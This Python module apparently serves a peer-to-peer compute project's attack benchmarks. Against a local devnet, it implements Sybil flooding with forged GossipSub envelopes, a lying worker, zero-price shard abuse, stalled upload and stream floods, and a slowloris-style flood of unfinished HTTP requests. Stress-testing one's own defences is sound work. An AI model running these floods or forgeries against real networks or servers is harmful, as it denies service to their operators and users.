"""Hostile peers for the attack benchmarks (``benchmarks/bench_attacks.py``).

Everything here is what an attacker can do with the public protocols and its own keys, nothing
more: it never touches a victim's files or memory. Each attack is a trio coroutine (or a small
class) run in the benchmark process against a devnet of real ``mtor-peer`` processes:

* :class:`SybilFlood` injects capacity records of throwaway identities through ONE host: each
  record is signed by its own identity, and so is the GossipSub message that carries it (the
  attacker forges the pubsub envelope, which GossipSub's strict signing accepts because the
  signature and ``from`` match), so every honest validator sees a record from its own signer.
* :class:`LiarWorker` is a real, reachable host that advertises huge capacity at price 0 and
  then either stalls every shard or returns wrong results (the worker's own ``fault_rate``).
* :func:`zero_price_shard` runs a shard on a victim with ``max_price`` 0 and never
  countersigns.
* :func:`upload_flood` starts many uploads that announce large arrays, then grows them slowly.
* :func:`stream_flood` opens many streams that announce a large request and send only part.
* :class:`ControlFlood` holds thousands of TCP connections to a control API that never finish
  their request head.
"""

from __future__ import annotations

import logging
import os
import random
import struct
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import trio
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.custom_types import TProtocol
from libp2p.peer.id import ID
from libp2p.pubsub.pb import rpc_pb2
from libp2p.pubsub.pubsub import PUBSUB_SIGNING_PREFIX

from mtor_kernels import KERNELS
from mtor_p2p.capacity.record import (
    DHT_NAMESPACE,
    MAX_TTL_SECONDS,
    CapacityRecord,
    CapacityRecordValidator,
    Device,
    capacity_key,
)
from mtor_p2p.capacity.service import CAPACITY_TOPIC
from mtor_p2p.clock import NetClock
from mtor_p2p.compute.client import ShardTerms, ensure_operands, run_shard
from mtor_p2p.compute.protocol import (
    CHUNK_BYTES,
    MAX_MESSAGE_BYTES,
    PROTOCOL_RUN,
    PROTOCOL_UPLOAD,
)
from mtor_p2p.compute.receipt_store import ReceiptStore
from mtor_p2p.compute.worker import WorkerService
from mtor_p2p.identity import Identity
from mtor_p2p.libp2p_host import Libp2pNetwork
from mtor_p2p.network import NetworkError, RemoteError
from mtor_p2p.records.arrays import OperandStore, pack, unpack

log = logging.getLogger(__name__)

#: What a liar claims: far more than any honest CPU peer, for nothing.
LIE_TFLOPS = 10_000.0
LIE_PRICE = 0.0
LIE_MEM = 80 << 30
_LENGTH = struct.Struct(">I")


def closed_tcp_port() -> int:
    """A loopback TCP port that nothing listens on (bound, then released)."""
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def lying_record(
    identity: Identity,
    addrs: list[str],
    *,
    now: float,
    seq: int,
    region: str = "WUS",
    lifetime: float = MAX_TTL_SECONDS,
) -> bytes:
    """A capacity record, signed by ``identity``, claiming :data:`LIE_TFLOPS` at price 0 for
    every kernel."""
    device = Device(
        kind="gpu",
        name="NVIDIA H100 80GB HBM3",
        mem_total=LIE_MEM,
        mem_free=LIE_MEM,
        utilization=0.0,
        compute_capability="9.0",
        driver="550.54",
        cores=None,
    )
    record = CapacityRecord(
        peer_id=identity.peer_id,
        addrs=tuple(addrs),
        region=region,
        devices=(device,),
        tflops=LIE_TFLOPS,
        mem_free=LIE_MEM,
        load=0.0,
        price=LIE_PRICE,
        seq=seq,
        issued=now,
        expires=now + lifetime,
        kernels=tuple(sorted(KERNELS)),
    )
    return record.sign(identity)


def forged_gossip(identity: Identity, topic: str, data: bytes) -> rpc_pb2.Message:
    """A GossipSub message whose origin (``from``) is ``identity``, signed by it: relayed by
    any host, it reaches validators as if ``identity`` had published it."""
    key_pair = create_new_key_pair(identity.seed)
    msg = rpc_pb2.Message(
        data=data,
        topicIDs=[topic],
        from_id=ID.from_pubkey(key_pair.public_key).to_bytes(),
        seqno=os.urandom(8),
    )
    msg.signature = key_pair.private_key.sign(
        PUBSUB_SIGNING_PREFIX.encode() + msg.SerializeToString()
    )
    msg.key = key_pair.public_key.serialize()
    return msg


@dataclass
class SybilFlood:
    """Records of ``count`` throwaway identities, injected through one attacker host.

    Each identity's record lists unreachable addresses (a closed loopback port and a
    non-routable 10.255.255.1), lives one hour and is re-published every ``interval`` seconds,
    on gossip (forged origin) and in the DHT under the identity's own key.
    """

    network: Libp2pNetwork
    count: int = 8
    interval: float = 5.0
    topic: str = CAPACITY_TOPIC
    identities: list[Identity] = field(default_factory=list)
    published: int = 0
    dht_puts: int = 0
    errors: int = 0

    def __post_init__(self) -> None:
        if not self.identities:
            self.identities = [Identity.generate() for _ in range(self.count)]
        # Our own DHT stores only namespaces it can validate (strict validation).
        self.network.register_dht_validator(DHT_NAMESPACE, CapacityRecordValidator(time.time))

    @property
    def peer_ids(self) -> set[str]:
        """The Sybils' peer IDs."""
        return {i.peer_id for i in self.identities}

    def _addrs(self, identity: Identity) -> list[str]:
        return [
            f"/ip4/127.0.0.1/tcp/{closed_tcp_port()}/p2p/{identity.peer_id}",
            f"/ip4/10.255.255.1/tcp/4001/p2p/{identity.peer_id}",
        ]

    async def publish_once(self, clock: NetClock) -> None:
        """Sign and inject a fresh record for every Sybil."""
        host_id = self.network._host.get_id()
        for identity in self.identities:
            now = clock.now()
            raw = lying_record(identity, self._addrs(identity), now=now, seq=int(now * 1000))
            try:
                await self.network._pubsub.push_msg(
                    host_id, forged_gossip(identity, self.topic, raw)
                )
                self.published += 1
            except Exception as exc:  # counted: the attack keeps going
                self.errors += 1
                log.debug("sybil gossip failed: %s", exc)
            try:
                with trio.move_on_after(2):
                    await self.network.dht_put(capacity_key(identity.peer_id), raw)
                    self.dht_puts += 1
            except NetworkError:
                self.errors += 1

    async def run(self) -> None:
        """Publish until cancelled."""
        clock = NetClock()
        # Subscribing puts the attacker into the topic's mesh, so its messages are forwarded.
        await self.network.subscribe(self.topic)
        while True:
            await self.publish_once(clock)
            await trio.sleep(self.interval)


class LiarWorker:
    """A reachable host that advertises :data:`LIE_TFLOPS` at price 0 and lies.

    ``mode`` ``"wrong"``: serves every compute protocol but corrupts every output (the
    worker's own ``fault_rate`` = 1, so receipts and framing are otherwise perfect).
    ``"stall"``: accepts uploads like an honest worker, then never answers a run request.
    """

    def __init__(self, network: Libp2pNetwork, identity: Identity, mode: str, data_dir: Path):
        if mode not in ("wrong", "stall"):
            raise ValueError("mode must be 'wrong' or 'stall'")
        self.network = network
        self.identity = identity
        self.mode = mode
        self.clock = NetClock()
        self.receipts = ReceiptStore(data_dir / f"liar-{identity.peer_id[-8:]}.sqlite")
        self.worker = WorkerService(
            network,
            identity,
            self.clock,
            OperandStore(max_bytes=256 << 20),
            self.receipts,
            price=lambda: LIE_PRICE,
            fault_rate=1.0 if mode == "wrong" else 0.0,
        )
        self.worker.register()
        network.register_dht_validator(DHT_NAMESPACE, CapacityRecordValidator(self.clock.now))
        self.stalled = 0
        if mode == "stall":
            network.handle(PROTOCOL_RUN, self._stall, max_request_bytes=64 * 1024, timeout=3600)

    async def _stall(self, sender: str, request: bytes) -> bytes:
        self.stalled += 1
        await trio.sleep_forever()
        raise AssertionError("unreachable")

    async def run(self, interval: float = 5.0) -> None:
        """Announce the lying record (real addresses) until cancelled."""
        await self.network.subscribe(CAPACITY_TOPIC)
        while True:
            now = self.clock.now()
            raw = lying_record(self.identity, self.network.addrs(), now=now, seq=int(now * 1000))
            try:
                await self.network.publish(CAPACITY_TOPIC, raw)
                with trio.move_on_after(2):
                    await self.network.dht_put(capacity_key(self.identity.peer_id), raw)
            except Exception as exc:  # best effort, like an honest announcement
                log.debug("liar announce failed: %s", exc)
            await trio.sleep(interval)

    def counters(self) -> dict[str, Any]:
        """What this liar did."""
        stats = self.worker.stats
        return {
            "mode": self.mode,
            "shards_answered_wrong": stats.corrupted_on_purpose,
            "runs_stalled": self.stalled,
            "bytes_received": stats.bytes_received,
        }


@dataclass
class ZeroPriceOutcome:
    """What one zero-price shard did at the victim."""

    computed: bool
    charged: float | None = None
    seconds: float = 0.0
    error: str | None = None


async def zero_price_shard(
    network: Libp2pNetwork, victim: str, *, size: int, rng: np.random.Generator
) -> ZeroPriceOutcome:
    """Run one ``size``-cubed matmul shard on ``victim`` quoting ``max_price`` 0; never
    countersign the receipt."""
    a = rng.standard_normal((size, size), dtype=np.float32)
    b = rng.standard_normal((size, size), dtype=np.float32)
    operands = {"a": a, "b": b}
    clock = NetClock()
    start = time.perf_counter()
    try:
        await ensure_operands(network, victim, operands, timeout=30)
        terms = ShardTerms(
            requester=network.peer_id,
            max_price=0.0,
            flops=2 * size**3,
            sent_at=clock.now(),
            now=clock.now,
        )
        answer = await run_shard(
            network,
            victim,
            job_id=os.urandom(32).hex(),
            shard=0,
            kernel="matmul",
            operands=operands,
            timeout=60,
            transfer_timeout=30,
            terms=terms,
        )
    except Exception as exc:  # every refusal (RemoteError, NetworkError...) is a figure
        return ZeroPriceOutcome(
            computed=False,
            seconds=time.perf_counter() - start,
            error=f"{type(exc).__name__}: {str(exc)[:160]}",
        )
    return ZeroPriceOutcome(
        computed=True, charged=answer.receipt.body.price, seconds=time.perf_counter() - start
    )


@dataclass
class FloodCounters:
    """What a flood sent and what the victim answered."""

    started: int = 0
    accepted: int = 0
    refused: int = 0
    errors: int = 0
    bytes_sent: int = 0
    reasons: dict[str, int] = field(default_factory=dict)

    def refuse(self, reason: str) -> None:
        """Count one refusal under a short reason."""
        self.refused += 1
        key = reason[:60]
        self.reasons[key] = self.reasons.get(key, 0) + 1


async def upload_flood(
    networks: list[Libp2pNetwork],
    victim: str,
    *,
    uploads: int,
    announced_bytes: int,
    budget_bytes: int,
    chunk_bytes: int = CHUNK_BYTES,
    pause: float = 0.0,
    counters: FloodCounters,
) -> None:
    """Start ``uploads`` uploads of random, never-completing arrays of ``announced_bytes``
    each with an empty first chunk, spread over the attacker hosts ``networks``, then grow
    them round-robin, ``chunk_bytes`` at a time, until ``budget_bytes`` were sent in all (or
    every upload was refused)."""
    shapes = [[announced_bytes // 4] for _ in range(uploads)]
    metas = [{"hash": os.urandom(32).hex(), "dtype": "float32", "shape": shape} for shape in shapes]
    offsets: dict[int, int] = {}
    for index, meta in enumerate(metas):
        network = networks[index % len(networks)]
        counters.started += 1
        try:
            reply = await network.request(
                victim, PROTOCOL_UPLOAD, pack({"array": meta, "offset": 0}), timeout=30
            )
            unpack(reply)
            offsets[index] = 0
            counters.accepted += 1
        except RemoteError as exc:
            counters.refuse(str(exc))
        except NetworkError:
            counters.errors += 1
    chunk = os.urandom(min(chunk_bytes, CHUNK_BYTES))
    while offsets and counters.bytes_sent < budget_bytes:
        for index in list(offsets):
            if counters.bytes_sent >= budget_bytes:
                break
            offset = offsets[index]
            body = chunk[: max(0, min(len(chunk), announced_bytes - offset - 1))]
            if not body:
                del offsets[index]  # never complete an upload: the victim would hash it
                continue
            try:
                await networks[index % len(networks)].request(
                    victim,
                    PROTOCOL_UPLOAD,
                    pack({"array": metas[index], "offset": offset}, body),
                    timeout=30,
                )
                offsets[index] = offset + len(body)
                counters.bytes_sent += len(body)
            except RemoteError as exc:
                counters.refuse(str(exc))
                del offsets[index]
            except NetworkError:
                counters.errors += 1
                del offsets[index]
            if pause:
                await trio.sleep(pause)


async def stream_flood(
    networks: list[Libp2pNetwork],
    victim: str,
    *,
    streams: int,
    partial_bytes: int,
    hold: float,
    counters: FloodCounters,
    protocol: str = PROTOCOL_UPLOAD,
    announced: int = MAX_MESSAGE_BYTES,
) -> None:
    """Open ``streams`` streams on ``protocol`` (spread over the attacker hosts ``networks``),
    each announcing a request of ``announced`` bytes and sending only ``partial_bytes`` of it;
    hold them open ``hold`` seconds. A stream whose writes stall for 10 s (the victim stopped
    reading) counts as refused."""
    body = os.urandom(min(partial_bytes, announced - 1))
    limiter = trio.CapacityLimiter(32)
    opened: list[Any] = []

    async def one(network: Libp2pNetwork) -> None:
        counters.started += 1
        try:
            async with limiter:
                with trio.fail_after(10):
                    stream = await network._host.new_stream(
                        ID.from_base58(victim), [TProtocol(protocol)]
                    )
                    opened.append(stream)
                    await stream.write(_LENGTH.pack(announced))
                    for start in range(0, len(body), 256 * 1024):
                        await stream.write(body[start : start + 256 * 1024])
                        counters.bytes_sent += len(body[start : start + 256 * 1024])
            counters.accepted += 1
        except trio.TooSlowError:
            counters.refuse("write stalled (flow control or the victim stopped reading)")
        except Exception as exc:  # a reset stream is the victim defending itself
            counters.refuse(f"{type(exc).__name__}: {exc}")

    async with trio.open_nursery() as nursery:
        for index in range(streams):
            nursery.start_soon(one, networks[index % len(networks)])
    await trio.sleep(hold)
    for stream in opened:
        with trio.move_on_after(1):
            try:
                await stream.reset()
            except Exception:  # already gone
                pass


class ControlFlood:
    """Hold ``connections`` TCP connections to a control API, each sending an unfinished
    request head and one more header byte every ``trickle`` seconds.

    A connection the server closes is opened again after ``reconnect`` seconds (with jitter),
    so the flood keeps as many connections as the server lets it without turning into a
    connect-rate flood whose CPU cost would land on the same machine as the victim's.
    """

    def __init__(
        self,
        host: str,
        port: int,
        connections: int,
        *,
        trickle: float = 5.0,
        reconnect: float = 2.0,
    ) -> None:
        self.trickle = trickle
        self.reconnect = reconnect
        self.host = host
        self.port = port
        self.connections = connections
        self.open_now = 0
        self.opened = 0
        self.closed_by_server = 0
        self.connect_errors = 0
        self.peak_open = 0
        self._started = 0.0

    async def _one(self, index: int) -> None:
        await trio.sleep(random.random() * 0.5)
        while True:
            try:
                stream = await trio.open_tcp_stream(self.host, self.port)
            except OSError:
                self.connect_errors += 1
                await trio.sleep(self.reconnect * (1 + random.random()))
                continue
            self.opened += 1
            self.open_now += 1
            self.peak_open = max(self.peak_open, self.open_now)
            try:
                await stream.send_all(b"GET /v1/status HTTP/1.1\r\nHost: 127.0.0.1\r\n")
                while True:  # trickle a header byte now and then; never end the head
                    with trio.move_on_after(self.trickle):
                        if not await stream.receive_some(4096):
                            break
                    await stream.send_all(b"X")
                self.closed_by_server += 1
            except (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
                self.closed_by_server += 1
            finally:
                self.open_now -= 1
                with trio.CancelScope(shield=True):
                    await stream.aclose()
            await trio.sleep(self.reconnect * (1 + random.random()))

    async def run(self) -> None:
        """Flood until cancelled."""
        self._started = trio.current_time()
        async with trio.open_nursery() as nursery:
            for index in range(self.connections):
                nursery.start_soon(self._one, index)

    def counters(self) -> dict[str, Any]:
        """What the flood did."""
        elapsed = max(1e-9, trio.current_time() - self._started)
        return {
            "connections_wanted": self.connections,
            "peak_open": self.peak_open,
            "opened": self.opened,
            "opened_per_s": round(self.opened / elapsed, 1),
            "closed_by_server": self.closed_by_server,
            "connect_errors": self.connect_errors,
            "trickle_s": self.trickle,
            "reconnect_after_s": f"{self.reconnect}-{2 * self.reconnect} (random)",
        }
